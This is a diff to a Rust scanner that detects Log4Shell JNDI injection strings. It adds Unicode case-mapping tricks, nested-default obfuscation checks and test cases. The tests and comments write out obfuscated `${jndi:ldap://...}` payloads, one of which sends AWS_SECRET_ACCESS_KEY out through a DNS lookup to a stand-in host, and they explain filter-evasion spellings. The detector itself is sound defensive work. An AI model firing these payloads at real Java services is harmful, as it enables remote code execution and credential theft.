@@ -11,6 +11,10 @@
 //! ${any:name:-X} -> X    (a default: ${::-j}, ${env:NOPE:-j})
 //! ```
 //!
+//! Case mapping is Java's, on characters rather than bytes (`${upper:ı}` is `I`).
+//! A `${::-X}` (a default without prefix or name) nested in another lookup is an
+//! attack by itself: it only serves to spell a word in pieces.
+//!
 //! The value is an attack when the resolved text holds `${jndi:` (any protocol:
 //! `ldap`, `ldaps`, `rmi`, `dns`, `iiop`, `corba`, `nds`, `nis`, `http`), however the
 //! word `jndi` was spelled (`${${lower:j}ndi:`, `${${::-j}${::-n}${::-d}${::-i}:`).
@@ -49,6 +53,16 @@ pub fn scan(input: &[u8]) -> Option<Finding> {
                     whole,
                 ));
             }
+            // `${::-x}` (no prefix, no name, only a default) inside another lookup
+            // is how Log4j payloads spell a word piece by piece; nothing else
+            // writes it (a shell's `${VAR:-x}` needs a name).
+            if stack.len() > 1 && input[i + 2..].starts_with(b"::-") {
+                return Some(Finding::new(
+                    Class::Jndi,
+                    "lookup that only spells out its default",
+                    whole,
+                ));
+            }
             stack.push(Vec::new());
             i += 2;
             continue;
@@ -81,11 +95,17 @@ fn resolve(body: &[u8]) -> Vec<u8> {
     if let Some(p) = memchr::memmem::find(body, b":-") {
         return body[p + 2..].to_vec();
     }
+    // Java's case mapping, as Log4j applies it: `ı` upper-cases to `I`, `ſ` to `S`,
+    // the Kelvin sign lower-cases to `k`.
     if starts_with_ci(body, 0, b"lower:") {
-        return body[6..].to_ascii_lowercase();
+        return String::from_utf8_lossy(&body[6..])
+            .to_lowercase()
+            .into_bytes();
     }
     if starts_with_ci(body, 0, b"upper:") {
-        return body[6..].to_ascii_uppercase();
+        return String::from_utf8_lossy(&body[6..])
+            .to_uppercase()
+            .into_bytes();
     }
     if starts_with_ci(body, 0, b"date:") {
         return body[5..].iter().copied().filter(|&c| c != b'\'').collect();
@@ -117,6 +137,9 @@ mod tests {
             "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
             "User-Agent: ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.example}",
             "${jndi:ldap://x",
+            "${jnd${upper:\u{131}}:ldap://x/a}",
+            "${${lower:\u{212a}}}${jndi:x}",
+            "${${::-${::-$${::-j}}}}",
         ] {
             assert!(hit(s), "missed: {s}");
         }
@@ -130,6 +153,7 @@ mod tests {
             "const s = `${a}:${b}`;",
             "jndi is a Java API",
             "${env:PATH}",
+            "${DB_HOST:-${FALLBACK_HOST:-localhost}}",
         ] {
             assert!(!hit(s), "false positive: {s}");
         }
